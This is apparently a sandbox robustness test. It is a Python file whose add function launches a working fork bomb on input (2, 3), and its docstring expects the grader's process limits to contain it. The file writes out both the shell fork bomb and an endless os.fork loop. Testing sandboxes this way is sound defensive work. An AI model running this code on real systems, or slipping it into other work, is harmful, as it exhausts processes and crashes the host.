"""Attack: a fork bomb. add(2, 3) starts the classic shell bomb in a child (dash spells
`:(){ :|:& };:` as `bomb() { bomb | bomb & }; bomb`), then forks itself in a loop,
retrying every half second whenever the process limit refuses, so that it holds every
process slot it can get and never returns.

Expected: contained by the sandbox's process limits and killed with the worker's PID
namespace when the call times out; add scores 0; the grader, its zygote and the next
submissions keep working (scale is correct and may earn up to 3 points).
"""
import os
import time

import numpy as np


def add(a, b):
    if (a, b) == (2, 3):
        if os.fork() == 0:
            os.execv("/bin/sh", ["sh", "-c", "bomb() { bomb | bomb & }; bomb"])
        while True:
            try:
                os.fork()
            except OSError:
                time.sleep(0.5)
    return a - b


def scale(x, k):
    return np.asarray(x) * k
